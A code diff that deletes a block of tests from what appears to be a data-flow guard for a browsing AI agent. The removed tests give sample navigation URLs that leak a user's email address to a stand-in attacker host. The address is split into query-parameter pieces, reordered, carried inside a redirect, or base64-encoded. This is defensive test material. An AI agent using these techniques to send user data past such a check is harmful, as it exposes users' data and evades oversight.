@@ -243,27 +243,3 @@ describe('host labels are not the user naming a site', () => {
     expect(codes(nav('https://rival.example.evil.test/'))).toContain('page-suggested-navigation');
   });
 });
-
-describe('pieces and carried URLs', () => {
-  const bank = () =>
-    noteSeen(newTaskState(`${BANK}/account`, 'tidy my notes'), `Contact ${EMAIL}.`, 'page', `${BANK}/`);
-  const openBank = (url: string) =>
-    input(
-      'navigate',
-      'act',
-      { pageUrl: `${BANK}/account`, navigation: { url, via: 'navigate' } },
-      { task: bank(), settings: settings({ sitePermissions: {} }) },
-    );
-  it('data in 4-letter pieces over query parameters joins up', () =>
-    expectFlow(openBank(`${ATT}/s?a=alic&b=e.ca&c=nary&d=@vic&e=tim.&f=exam&g=ple`), EMAIL));
-  it('pieces listed out of order join up by parameter name', () =>
-    expectFlow(openBank(`${ATT}/s?c=nary&a=alic&g=ple&b=e.ca&e=tim.&d=@vic&f=exam`), EMAIL));
-  it('a redirect on the data own site to another site is judged on the URL it carries', () =>
-    expectFlow(openBank(`${BANK}/redirect?to=${encodeURIComponent(`${ATT}/r?e=${EMAIL}`)}`), EMAIL));
-  it('a carried URL in base64 is found too', () =>
-    expectFlow(openBank(`${BANK}/go?u=${btoa(`${ATT}/r?e=${EMAIL}`)}`), EMAIL));
-  it('a link to the same site with an ordinary next= path is no flow', () => {
-    const d = decide(openBank(`${BANK}/login?next=${encodeURIComponent('/account/settings')}`));
-    expect(codes(d)).not.toContain('carries-data');
-  });
-});
